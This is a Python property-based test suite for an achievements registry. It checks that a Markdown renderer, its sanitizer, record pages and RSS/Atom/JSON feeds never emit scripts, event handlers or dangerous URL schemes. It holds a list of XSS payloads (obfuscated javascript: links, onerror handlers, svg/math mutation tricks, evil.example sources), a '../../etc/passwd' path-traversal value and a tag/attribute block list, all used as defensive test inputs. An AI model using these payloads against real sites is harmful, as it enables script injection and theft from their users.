"""Generated input against the validator and the renderers.

(a) Records drawn from a strategy that walks the compiled record schema (every keyword it uses: types, enum,
    const, pattern, format, lengths, item counts, uniqueItems, required, allOf/if/then), then patched so the
    rules beyond the schema hold (id = folder, check digits, people's units among the units, field within
    its highland, no personal-data digit runs, no "<" in text, no future dates, no media). Each validates with
    zero errors; its page and every feed carry no script, no event handler and no javascript:/vbscript:/data:
    URL. (hypothesis-jsonschema 0.23 cannot drive our Hypothesis — its `from_schema` fails inside Hypothesis
    6.170 — and would only filter if/then; the walker below is small and knows our formats.)
(b) Markdown descriptions from a grammar of injection fragments mixed with ordinary text: whatever the validator
    says about them, `render_markdown`, the record page and the feeds carry none of those either — nor does
    `render_markdown` with cmark's own safe mode switched off (the sanitizer alone). Output is parsed with
    html.parser and every tag and attribute inspected, not matched as a string.
(c) The demo library's records, mutated (a field deleted, retyped, or replaced by hostile text) and written the
    way PyYAML writes them: the validator answers with located Chinese diagnostics, never an exception, and
    whatever it still accepts renders safely.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import re
import shutil
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from unittest import mock

import cmarkgfm
import pytest
import yaml

from pipeline.check.names import MIDDLE_DOT_VARIANTS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from lxml import etree

from pipeline.render import markdown as markdown_render
from pipeline.feeds.render import render_feeds
from pipeline.model.library import Library, load_library, load_rules, validate_record
from pipeline.render.markdown import render_markdown
from pipeline.model.records import SHANGHAI, Achievement, start_of_day
from pipeline.render.page_records import render_record, render_tombstone
from pipeline.model.publication import publish
from pipeline.read.sources import Layout, RecordSource
from tests.factories import REPO, make_repo, record_data

TODAY = date(2026, 11, 20)
BUILT_AT = datetime(2026, 11, 20, 12, 0, tzinfo=SHANGHAI)
SITE_URL = "https://zlhcg.example.org/"
RULES = load_rules(Layout(REPO), TODAY)
SCHEMAS = RULES.schemas
RECORD_SCHEMA = SCHEMAS.documents["result"]
PROPERTY = settings(deadline=None, print_blob=False, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

# --- what the output may not contain ------------------------------------------------------------------------

ACTIVE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "svg", "math",
               "style", "link", "meta", "template", "noscript"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "cite", "data",
                  "srcset", "ping", "longdesc", "manifest", "codebase", "lowsrc", "dynsrc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def as_browser_reads(url: str) -> str:
    """Browsers drop ASCII whitespace and controls anywhere in a scheme and ignore case."""
    return re.sub(r"[\x00-\x20\x7f]+", "", url).lower()


class Inspector(HTMLParser):
    """Collects every forbidden tag, event-handler attribute and script-capable URL in an HTML text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and value is not None:
                for url in value.split(",") if name == "srcset" else [value]:
                    if as_browser_reads(url).startswith(BAD_SCHEMES):
                        self.problems.append(f"<{tag} {name}={value[:40]!r}>")

    handle_startendtag = handle_starttag

    def unknown_decl(self, data):  # <![CDATA[…]]> outside foreign content
        self.problems.append(f"<![{data[:20]}")


def html_problems(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


HTML_IN_FEEDS = {"description", "{http://purl.org/rss/1.0/modules/content/}encoded",
                 "{http://www.w3.org/2005/Atom}content", "{http://www.w3.org/2005/Atom}summary"}


def feed_problems(files: dict[str, bytes]) -> list[str]:
    """Every HTML payload of every feed inspected as HTML, and every URL the XML itself carries."""
    problems = []
    for path, raw in files.items():
        if path.endswith(".json"):
            problems += json_feed_problems(path, raw)
            continue
        root = etree.fromstring(raw)
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            if element.tag in HTML_IN_FEEDS and element.text:
                problems += [f"{path}: {p}" for p in html_problems(element.text)]
            for name in ("href", "url", "src", "xmlUrl", "htmlUrl"):
                value = element.get(name)
                if value and as_browser_reads(value).startswith(BAD_SCHEMES):
                    problems.append(f"{path}: {element.tag} {name}={value[:40]!r}")
    return problems


def json_feed_problems(path: str, raw: bytes) -> list[str]:
    """A JSON Feed: each item's HTML inspected as HTML, and every URL it carries."""
    problems = []
    feed = json.loads(raw)
    for item in feed["items"]:
        problems += [f"{path}: {p}" for p in html_problems(item.get("content_html", ""))]
        urls = [item.get("url"), item.get("image"), *(a["url"] for a in item.get("attachments", []))]
        problems += [f"{path}: {u[:40]!r}" for u in urls if u and as_browser_reads(u).startswith(BAD_SCHEMES)]
    return problems


def rendered_problems(record: Achievement) -> list[str]:
    """Problems in the record's page (or tombstone) and in every feed of a library holding only it."""
    record = dataclasses.replace(record, entered=record.entered or start_of_day(record.entered_explicit or TODAY))
    library = Library(Layout(REPO), RULES.vocab, SCHEMAS, (record,), ())
    pub = publish(library, BUILT_AT, SITE_URL, "浙里好成果")
    page = render_tombstone(record) if record.is_withdrawn else render_record(record, pub)
    return html_problems(page.html) + feed_problems(render_feeds(pub, {}))


def test_the_inspector_finds_what_it_looks_for():
    """The oracle itself: each kind of problem is caught, and ordinary markup is not."""
    assert html_problems('<p><a href="https://x.example/">a</a><img src="x.png" alt="y"></p>') == []
    for bad in ("<script>x</script>", "<SCRIPT>x</SCRIPT>", "<svg/onload=x>", '<img src=x onerror="alert(1)">',
                '<a href=" J&#x61;va\tscript:alert(1)">x</a>', '<a href="data:text/html,x">x</a>',
                "<iframe src=https://x.example/></iframe>", "<![CDATA[x]]>"):
        assert html_problems(bad), bad
    rss = (b'<rss xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><item><content:encoded>'
           b"&lt;img src=x onerror=alert(1)&gt;</content:encoded></item></channel></rss>")
    assert feed_problems({"f.xml": rss}) == ["f.xml: <img onerror=…>"]


# --- (a) valid documents from the schema ---------------------------------------------------------------------

TEXT_CHARS = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cf", "Co", "Cn", "Zl", "Zp"),
                           exclude_characters="<")
LINE_BREAK = st.just("\n")
_DIGIT_RUN = re.compile(r"[0-9](?:[- ]?[0-9]){9,}")  # 10+ digits: could read as a phone or ID number


def clean_text(text: str, markdown: bool) -> str:
    text = _DIGIT_RUN.sub(lambda m: m.group()[:4], text)
    if markdown:  # no link or link definition: a random target would be a relative link, which is refused
        text = text.replace("](", "] (").replace("]:", "] :")
    return text


def fit(text: str, node: dict) -> str:
    low, high = node.get("minLength", 0), node.get("maxLength", 10_000)
    return (text + "成果" * low)[: max(low, min(len(text), high))]


def free_text(node: dict, markdown: bool) -> st.SearchStrategy[str]:
    low = node.get("minLength", 0)
    alphabet = TEXT_CHARS | LINE_BREAK if markdown else TEXT_CHARS
    return st.text(alphabet, min_size=low, max_size=min(node.get("maxLength", 40), low + 40)).map(
        lambda t: fit(clean_text(t, markdown), node))


def dates_until(last: date) -> st.SearchStrategy[date]:
    return st.dates(min_value=date(1990, 1, 1), max_value=last)


FORMATS = {
    "date": dates_until(TODAY).map(date.isoformat),
    "date-time": st.datetimes(datetime(2000, 1, 1), BUILT_AT.replace(tzinfo=None) - timedelta(hours=1)).map(
        lambda d: d.replace(microsecond=0).isoformat() + "+08:00"),
    "email": st.from_regex(r"[a-z]{1,10}(\.[a-z]{1,6})?@[a-z]{1,10}(-[a-z]{1,5})?\.(cn|com|org|edu\.cn)",
                           fullmatch=True),
    "uri": st.from_regex(r"https://[a-z]{1,10}\.(cn|com|org)(/[A-Za-z._~-]{1,12}){0,3}", fullmatch=True),
}


def strings(node: dict, path: tuple) -> st.SearchStrategy[str]:
    if "format" in node:
        return FORMATS[node["format"]]
    if "pattern" in node:
        return st.from_regex(node["pattern"], fullmatch=True).filter(
            lambda s: node.get("minLength", 0) <= len(s) <= node.get("maxLength", 10_000))
    return free_text(node, markdown=path == ("description",))


def objects(node: dict, path: tuple) -> st.SearchStrategy[dict]:
    props, required = node.get("properties", {}), set(node.get("required", ()))
    strategies = {k: from_schema(v, path + (k,)) for k, v in props.items()}
    base = st.fixed_dictionaries({k: v for k, v in strategies.items() if k in required},
                                 optional={k: v for k, v in strategies.items() if k not in required})
    conditions = [(Draft202012Validator(c["if"]), c["then"]) for c in node.get("allOf", ()) if "if" in c]
    if not conditions:
        return base

    @st.composite
    def with_conditions(draw) -> dict:
        obj = draw(base)
        for condition, then in conditions:
            if condition.is_valid(obj):
                for name in then.get("required", ()):
                    if name not in obj:
                        obj[name] = draw(from_schema(props[name], path + (name,)))
        return obj

    return with_conditions()


def arrays(node: dict, path: tuple) -> st.SearchStrategy[list]:
    low = node.get("minItems", 0)
    return st.lists(from_schema(node["items"], path + (0,)), min_size=low,
                    max_size=min(node.get("maxItems", 3), max(low, 3)), unique=node.get("uniqueItems", False))


def from_schema(node: dict, path: tuple = ()) -> st.SearchStrategy:
    """A strategy for instances of the schema `node` (the subset of JSON Schema our schemas use)."""
    node = SCHEMAS.resolve(node)
    if "const" in node:
        return st.just(node["const"])
    if "enum" in node:
        return st.sampled_from(node["enum"])
    kind = node.get("type")
    if kind == "object":
        return objects(node, path)
    if kind == "array":
        return arrays(node, path)
    if kind == "string":
        return strings(node, path)
    if kind == "integer":
        return st.integers(node.get("minimum", -10**6), node.get("maximum", 10**6))
    if kind == "number":
        return st.floats(node.get("minimum"), node.get("maximum", 1e12), allow_nan=False, allow_infinity=False)
    if kind == "boolean":
        return st.booleans()
    raise NotImplementedError(f"the schema walker does not know the node at {path}: {sorted(node)}")


# Check characters, computed here from their standards (GB 32100, ISO 7064 MOD 11-2, CNIPA) rather than
# borrowed from pipeline.check.checkdigits, so a wrong implementation there cannot agree with itself.
CREDIT_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"


def credit_check(first17: str) -> str:
    weights = [pow(3, i, 31) for i in range(17)]
    total = sum(CREDIT_ALPHABET.index(c) * w for c, w in zip(first17, weights))
    return CREDIT_ALPHABET[(31 - total % 31) % 31]


def organisation_check(first8: str) -> str:
    """GB 11714: weights 3 7 9 10 5 8 4 2, letters A = 10 …, check 11 - sum mod 11 (10 → X, 11 → 0)."""
    value = 11 - sum(int(c, 36) * w for c, w in zip(first8, (3, 7, 9, 10, 5, 8, 4, 2))) % 11
    return {10: "X", 11: "0"}.get(value, str(value))


def orcid_check(first15: str) -> str:
    total = 0
    for digit in first15:
        total = (total + int(digit)) * 2
    value = (12 - total % 11) % 11
    return "X" if value == 10 else str(value)


def patent_check(digits12: str) -> str:
    weights = (2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5)
    value = sum(int(d) * w for d, w in zip(digits12, weights)) % 11
    return "X" if value == 10 else str(value)


@st.composite
def valid_records(draw) -> dict:
    """A schema instance patched so that the rules beyond the schema hold too."""
    doc = draw(from_schema(RECORD_SCHEMA))
    doc.pop("media", None)  # media need files in the folder
    term = draw(st.sampled_from(RULES.vocab.fields.terms))
    doc["field"], doc["highland"] = term.name, term.parent
    for i, unit in enumerate(doc["units"]):
        unit["name"] = fit(f"{i}{unit['name']}", {"minLength": 2, "maxLength": 100})  # unit names are unique
        if "region" in unit:  # outside the mainland: no credit code, no city
            unit.pop("credit_code", None)
            unit.pop("city", None)
            if unit["region"] == "国外":
                unit.setdefault("country", "德国")
            continue
        unit.setdefault("city", "杭州市")
        code = unit.get("credit_code") or "12330000470003388W"
        first17 = code[:8] + code[8:16] + organisation_check(code[8:16])
        unit["credit_code"] = first17 + credit_check(first17)
    names = [u["name"] for u in doc["units"]]
    for person in doc["people"]:
        person["units"] = draw(st.lists(st.sampled_from(names), min_size=1, max_size=min(4, len(names)), unique=True))
        person["name"] = "".join("·" if ch in MIDDLE_DOT_VARIANTS else ch for ch in person["name"])
        if "orcid" in person:
            digits = person["orcid"].replace("-", "")[:15]
            person["orcid"] = "-".join((digits + orcid_check(digits))[i:i + 4] for i in range(0, 16, 4))
    for patent in (doc.get("ip") or {}).get("patents", ()):
        if patent.get("office", "CN") != "CN":
            continue  # foreign and PCT numbers are taken as written
        year, kind = draw(st.integers(1985, TODAY.year)), draw(st.sampled_from("123789"))
        digits = f"{year}{kind}{draw(st.integers(0, 9_999_999)):07d}"
        granted = patent["status"] == "已授权"
        patent["number"] = f"{'ZL' if granted else ''}{digits}.{patent_check(digits)}"
    awards = RULES.vocab["awards"]
    for award in doc.get("awards", ()):
        grades = awards[award["name"]].grades
        if grades:
            award["grade"] = draw(st.sampled_from(grades))
        elif grades == ():
            award.pop("grade", None)
        award["year"] = min(award["year"], TODAY.year)
    kinds = RULES.vocab["certificate_kinds"]
    for certificate in doc.get("certificates", ()):
        if kinds[certificate["kind"]].pattern:
            certificate["number"] = kinds[certificate["kind"]].example
    for item in (*doc.get("certificates", ()), *doc.get("benchmarks", ())):
        if "date" in item:
            item["date"] = min(item["date"], TODAY.isoformat())
    if doc["field"] == "其他":
        doc["field_note"] = "古籍数字化"
    for paper in doc.get("papers", ()):
        paper["year"] = min(paper["year"], TODAY.year)
        paper["doi"] = paper["doi"].replace("<", "(").replace(">", ")")
    doc["entered"] = doc.get("entered") or draw(dates_until(TODAY)).isoformat()
    if "withdrawn" in doc:
        doc["entered"] = min(doc["entered"], doc["withdrawn"]["date"])
    return doc


class QuotedDumper(yaml.SafeDumper):
    """Every string double-quoted: PyYAML types plain scalars by YAML 1.1, the loader by YAML 1.2 ("1e3")."""


QuotedDumper.add_representer(
    str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"'))


def dump(doc: dict) -> bytes:
    return yaml.dump(doc, Dumper=QuotedDumper, allow_unicode=True, sort_keys=False, width=10_000).encode("utf-8")


@pytest.fixture(scope="module")
def library_root(tmp_path_factory):
    return make_repo(tmp_path_factory.mktemp("generated") / "repo")


def write_only_record(root, doc: dict) -> None:
    shutil.rmtree(root / "results")
    folder = root / "results" / doc["id"][:4] / doc["id"]
    folder.mkdir(parents=True)
    (folder / f"{doc['id']}.yaml").write_bytes(dump(doc))


def test_the_schema_walker_covers_the_whole_record_schema():
    from pipeline.check.schemas import iter_schema_fields

    for path, node, _ in iter_schema_fields(SCHEMAS, "result"):
        from_schema(node, tuple(path.replace("[]", "").split(".")))  # raises on a keyword it cannot honour


@settings(PROPERTY, max_examples=150)
@given(doc=valid_records())
def test_valid_documents_validate_and_render_safely(library_root, doc):
    write_only_record(library_root, doc)
    result = load_library(library_root, today=TODAY, require_dates=True)

    assert [(d.rule, d.field, d.message) for d in result.diagnostics if d.is_error] == []
    (record,) = result.library.records
    assert rendered_problems(record) == []


# --- (b) adversarial Markdown ------------------------------------------------------------------------------

INJECTIONS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>", '<a href="jAvAscript:alert(1)">x</a>',
    "<a href='javascript&colon;alert(1)'>x</a>", '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>', "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&#58;alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[y][x]",
    "[x](java\tscript:alert(1))", "[x](%6Aavascript:alert(1))", "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png)", "![x](javascript:alert(1))", '![x" onerror="alert(1)](photo.png)',
    '[x](https://ok.example "t\\" onmouseover=alert(1)")', "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>", "<style>body{background:url(javascript:alert(1))}</style>",
    "<!-- <script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=x?>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=javascript:alert(1)//>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<<script>script>alert(1)<</script>/script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "``<script>``", "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```", '<a href="x" title=\'"\' onclick=alert(1)>x</a>',
    '<p style="x:expression(alert(1))">x</p>',
)
ORDINARY = (
    "碳化硅功率模块", "**低缺陷生长**", "## 主要内容", "- 列表项", "> 引用", "| 指标 | 数值 |\n|---|---|\n| 热阻 | 25% |",
    "[官网](https://example.org/tech)", "![产品照片](photo.png)", "ASCII words", "\n", "\n\n", "'", '"', "`", "&amp;", "\\",
    "<", ">", "&", "&#", ";", ":", "(", ")", "[", "]", "!", "javascript:", " on", "=", "/", "\xa0", "𠮷",
)
markdown_texts = st.lists(st.sampled_from(INJECTIONS) | st.sampled_from(ORDINARY)
                          | st.text(st.sampled_from("<>\"'=&#;:/()[]! \nabcjsx"), max_size=12),
                          min_size=1, max_size=12).map("".join)
MEDIA = frozenset({"photo.png"})


@settings(PROPERTY, max_examples=1000)
@given(text=markdown_texts, media_base=st.sampled_from(["", "https://zlhcg.example.org/results/2025-3kq8m2va/"]))
def test_render_markdown_never_emits_script_handlers_or_bad_schemes(text, media_base):
    assert html_problems(render_markdown(text, media_base=media_base, media_files=MEDIA)) == []


def unsafe_cmark(text: str) -> str:
    """cmark letting raw HTML and every link target through: what the sanitizer must hold against on its own."""
    return cmarkgfm.github_flavored_markdown_to_html(text, options=cmarkgfm.Options.CMARK_OPT_UNSAFE)


@settings(PROPERTY, max_examples=500)
@given(text=markdown_texts)
def test_the_sanitizer_alone_holds_when_markdown_lets_everything_through(text):
    """cmark's safe mode already drops raw HTML and javascript: links; nh3 must not depend on it."""
    with mock.patch.object(markdown_render, "github_markdown_to_html", unsafe_cmark):
        html = render_markdown(text, media_files=MEDIA)
    assert html_problems(html) == []


def exemplar_with(description: str) -> dict:
    return record_data(description=description, media=None)


@pytest.fixture(scope="module")
def record_folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("adversarial") / "results" / "2025" / "2025-3kq8m2va"
    folder.mkdir(parents=True)
    return folder


@settings(PROPERTY, max_examples=200)
@given(text=markdown_texts)
def test_adversarial_descriptions_are_answered_and_never_reach_page_or_feeds(record_folder, text):
    doc = exemplar_with(text)
    path = record_folder / "2025-3kq8m2va.yaml"
    path.write_bytes(dump(doc))
    checked = validate_record(RecordSource(path, "results/2025/2025-3kq8m2va/2025-3kq8m2va.yaml", ()), RULES)
    assert all(d.rule and re.search("[\u4e00-\u9fff]", d.message) for d in checked.diagnostics)

    record = Achievement.from_data(doc, "results/2025/2025-3kq8m2va/2025-3kq8m2va.yaml")  # rendered whatever the verdict
    assert rendered_problems(record) == []


def test_the_grammar_reaches_the_sanitizer_with_live_payloads():
    """Guards the properties against a grammar with nothing live in it: rendered by cmark without any safety
    (its unsafe mode, no sanitizer), most fragments do produce a script, a handler or a bad URL."""
    unsafe = cmarkgfm.Options.CMARK_OPT_UNSAFE
    unsanitized = [html_problems(cmarkgfm.github_flavored_markdown_to_html(f, options=unsafe)) for f in INJECTIONS]
    assert sum(1 for found in unsanitized if found) >= 25


# --- (c) mutated demo records --------------------------------------------------------------------------------

DEMO_RECORDS = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted((REPO / "results").glob("*/*/*.yaml"))]
HOSTILE_VALUES = (
    "yes", "no", "on", "off", "0012", "1:30", "2026-02-30", "2099-01-01", "123300004700033817", "1e400", ".inf", "~",
    "", " ", "110101199003074514", "13812345678", "javascript:alert(1)", "//evil.example/x", "../../etc/passwd",
    "\u202e\u200b", "a\x00b", "\ufeff", "名称\u2028", *INJECTIONS[:12], "很" * 2000,
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-10**20, 10**20) | st.floats(allow_nan=False) | st.text(max_size=30)
    | st.sampled_from(HOSTILE_VALUES),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=10), children, max_size=3),
    max_leaves=12,
)


def paths_of(data, path: tuple = ()) -> list[tuple]:
    found = [path]
    if isinstance(data, dict):
        for key, value in data.items():
            found += paths_of(value, path + (key,))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            found += paths_of(value, path + (i,))
    return found


@st.composite
def mutated_demo_records(draw) -> dict:
    doc = copy.deepcopy(draw(st.sampled_from(DEMO_RECORDS)))
    doc.pop("media", None)  # the folder holds no images here
    for _ in range(draw(st.integers(1, 4))):
        path = draw(st.sampled_from(paths_of(doc)[1:]))
        parent = doc
        for part in path[:-1]:
            parent = parent[part]
        operation = draw(st.sampled_from(["delete", "replace", "wrap", "null"]))
        if operation == "delete":
            del parent[path[-1]]
        elif operation == "replace":
            parent[path[-1]] = draw(json_values)
        elif operation == "wrap":
            parent[path[-1]] = [parent[path[-1]]]
        else:
            parent[path[-1]] = None
    return doc


@settings(PROPERTY, max_examples=300)
@given(doc=mutated_demo_records())
def test_mutated_demo_records_get_located_chinese_diagnostics_or_render_safely(record_folder, doc):
    path = record_folder / "2025-3kq8m2va.yaml"
    path.write_bytes(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False).encode("utf-8", "surrogatepass"))
    checked = validate_record(RecordSource(path, "results/2025/2025-3kq8m2va/2025-3kq8m2va.yaml", ()), RULES)

    for d in checked.diagnostics:
        assert d.rule and re.search("[\u4e00-\u9fff]", d.message), d  # hints: see case schema-list-item-wrong-type
        assert d.line is not None and d.column is not None, d
    if checked.record is not None:
        assert rendered_problems(checked.record) == []
